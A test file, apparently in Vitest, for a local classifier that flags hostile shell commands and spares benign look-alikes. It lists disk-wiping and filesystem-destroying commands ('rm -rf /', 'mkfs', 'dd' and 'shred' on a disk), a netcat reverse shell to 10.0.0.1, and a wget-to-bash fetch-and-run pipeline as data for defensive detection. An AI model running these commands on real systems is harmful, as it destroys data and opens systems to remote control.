import { expect, test } from 'vitest'
import { findHostileReason } from './local-classifier.js'

test('the local classifier treats commands that no request can justify as hostile', () => {
  const commands = [
    'rm -rf /',
    'rm -rf /*',
    'rm -fr ~',
    'rm -r --no-preserve-root /',
    'rm -Rf $HOME/',
    'rm --recursive /home/dev',
    'rm -rf /etc',
    'mkfs.ext4 /dev/sda1',
    'dd if=/dev/zero of=/dev/sda',
    'shred -n1 /dev/sda',
    'chmod -R 777 /',
    'nc -e /bin/sh 10.0.0.1 4444',
  ]
  expect(commands.filter((command) => findHostileReason([command.split(' ')]) === undefined)).toEqual([])
  expect(
    findHostileReason([
      ['wget', '-qO-', 'x'],
      ['bash', '-s'],
    ]),
  ).toBe('it runs code that it fetches from the network')
})

test('the local classifier does not treat commands that could be legitimate as hostile', () => {
  const commands = [
    'rm -rf build',
    'rm -rf /project/build',
    'rm -rf ~/project/dist',
    'rm /',
    'rm -rf $BUILD',
    'ls -R /',
    'chmod -R 755 dist',
    'dd if=a of=b',
    'nc -z host 80',
    'bash script.sh',
  ]
  expect(commands.filter((command) => findHostileReason([command.split(' ')]) !== undefined)).toEqual([])
  expect(findHostileReason([['rm', '-rf', '/ in a name']])).toBeUndefined()
})
